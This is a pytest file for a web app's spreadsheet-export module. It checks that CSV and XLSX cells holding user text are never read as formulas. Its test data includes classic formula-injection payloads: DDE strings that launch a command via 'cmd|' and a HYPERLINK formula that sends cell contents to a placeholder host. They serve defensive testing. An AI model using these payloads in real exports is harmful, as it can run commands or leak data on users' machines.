"""core.spreadsheet (ADR 0009): CSV text cells never start a formula, and the rule can be
undone exactly; XLSX cells keep their exact value as text, never a formula. Also the
engine's own workbook (palabre_analysis.report_xlsx), which cannot use the web app's helper."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from palabre.core.spreadsheet import csv_dict_writer, csv_text, csv_writer, xlsx_cells

# OWASP's list of characters that make a spreadsheet read a cell as a formula
DANGEROUS = [
    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
    "+33 rue du Port",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS = ["Des bancs", "", " =1+1", "2 + 2", "a=b", "-5", "+3.5", "-1,5", "1e-3"]


def _undo(cell: str) -> str:
    """The reverse of csv_text, as the ADR tells a reader of our CSV files to do."""
    stripped = cell.lstrip("'")
    if cell.startswith("'") and stripped[:1] in {"=", "+", "-", "@", "\t", "\r", "\n", "\0"}:
        return cell[1:]
    return cell


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_that_would_start_a_formula_gets_an_apostrophe(value):
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_texts_and_plain_numbers_are_left_as_they_are(value):
    assert csv_text(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, None, 12])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert csv_text(value) == value


@pytest.mark.parametrize("value", [*DANGEROUS, *HARMLESS, "'=1+1", "''-x", "'quoted'", "'"])
def test_the_rule_can_be_undone_exactly(value):
    assert _undo(csv_text(value)) == value


def test_the_writers_neutralise_every_cell_they_write():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["title", "score"])
    writer.writerows([[value, -1.5] for value in DANGEROUS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["title", "score"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in DANGEROUS]
    assert {row[1] for row in rows[1:]} == {"-1.5"}

    out = io.StringIO()
    dict_writer = csv_dict_writer(out, fieldnames=["id", "text"])
    dict_writer.writeheader()
    dict_writer.writerow({"id": 1, "text": DANGEROUS[0]})
    dict_writer.writerows([{"id": 2, "text": DANGEROUS[1]}])
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["text"] for r in read] == ["'" + DANGEROUS[0], "'" + DANGEROUS[1]]


def _read_back(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


def test_xlsx_cells_keep_the_exact_text_and_are_never_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    values = [*DANGEROUS[:4], "\t=1+1", "#N/A", "Des bancs"]
    sheet.append(xlsx_cells(sheet, [*values, 3, None]))
    out = io.BytesIO()
    workbook.save(out)
    cells = _read_back(out.getvalue())
    assert cells[: len(values)] == [(value, "s") for value in values]
    assert cells[len(values)] == (3, "n")


def test_xlsx_cells_replace_only_what_xml_cannot_hold():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_cells(sheet, ["\r=1+1", "bip\x07", "ligne\nsuivante"]))
    out = io.BytesIO()
    workbook.save(out)
    # XML reads a carriage return as a line feed, and cannot hold other control characters
    assert _read_back(out.getvalue()) == [
        ("\n=1+1", "s"),
        ("bip ", "s"),
        ("ligne\nsuivante", "s"),
    ]


def test_the_engine_workbook_keeps_contributions_exact(tmp_path):
    from palabre_analysis.report_xlsx import write_xlsx

    result = {
        "topics": [
            {
                "id": "t1",
                "label": "=Mobilier",
                "parent": None,
                "size": 1,
                "share": 0.5,
                "keywords": ["banc"],
            }
        ],
        "duplicate_groups": [],
        "assignments": [{"id": "c1", "topic": "t1", "score": 0.9}],
        "method": "-",
        "settings": {},
        "engine_version": "0",
    }
    path = tmp_path / "synthese.xlsx"
    write_xlsx(result, {"c1": DANGEROUS[0], "c2": "@Mairie"}, path)
    workbook = load_workbook(path)
    cells = {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert cells[DANGEROUS[0]] == "s" and cells["@Mairie"] == "s"
    assert cells["=Mobilier"] == "s"
    assert "'" + DANGEROUS[0] not in cells
